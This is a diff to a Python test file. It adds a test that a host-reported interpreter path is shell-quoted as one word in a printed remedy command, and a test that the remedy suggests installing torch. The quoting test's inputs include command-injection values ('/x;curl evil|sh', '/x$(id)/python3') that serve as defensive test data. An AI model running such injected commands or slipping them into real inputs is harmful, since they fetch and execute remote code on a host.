@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import shlex
 from datetime import UTC, datetime, timedelta
 from decimal import Decimal
 from typing import Any
@@ -133,6 +134,20 @@ def test_what_only_trying_can_tell_is_named_with_its_remedy(change: dict[str, An
     assert lack is not None
     assert lack.kind == kind
     assert lack.remedy
+
+
+@pytest.mark.parametrize("python", ["/opt/py/bin/python3", "/opt/my py/python3", "/x;curl evil|sh", "/x$(id)/python3"])
+def test_a_path_that_a_host_told_is_one_word_of_the_command_that_is_printed(python: str) -> None:
+    lack = lacks_packages(found(torch="", pythons=[python]), ALL, "box", "python3", "2.13.0")
+    assert lack is not None
+    command = lack.remedy.partition("there has torch: ")[2]
+    assert shlex.split(command) == ["--set", f"host.python={python}"]
+
+
+def test_a_host_that_may_have_the_newest_torch_is_told_to_install_that() -> None:
+    lack = lacks_packages(found(torch=""), ALL, "box", "python3", "")
+    assert lack is not None
+    assert "pip install torch numpy;" in lack.remedy
 
 
 def test_a_validation_holds_for_two_days_and_for_the_machine_it_was_made_on() -> None:
